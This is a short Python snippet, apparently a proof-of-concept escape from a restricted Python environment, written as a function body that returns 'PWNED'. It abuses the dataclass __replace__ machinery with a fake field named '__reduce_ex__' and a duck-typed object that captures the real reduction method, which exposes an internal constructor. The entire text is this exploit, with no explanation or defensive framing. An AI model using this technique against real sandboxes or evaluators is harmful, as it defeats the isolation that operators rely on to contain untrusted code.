import dataclasses

seen = {}


class Made:
    __slots__ = ()
    x: int = 0


try:
    dataclasses.dataclass(slots=True)(Made)
except TypeError:
    pass


class FakeField:
    name = "__reduce_ex__"
    init = True
    default = None
    _field_type = None


class Duck:
    def __init__(self, **named):
        seen.update(named)


if not hasattr(Made, "__replace__"):
    return "no"
duck = Duck()
vars(duck)["__dataclass_fields__"] = {"x": FakeField()}
Made.__replace__(duck)
make = seen["__reduce_ex__"](2)[0]
return "PWNED " + repr(make)
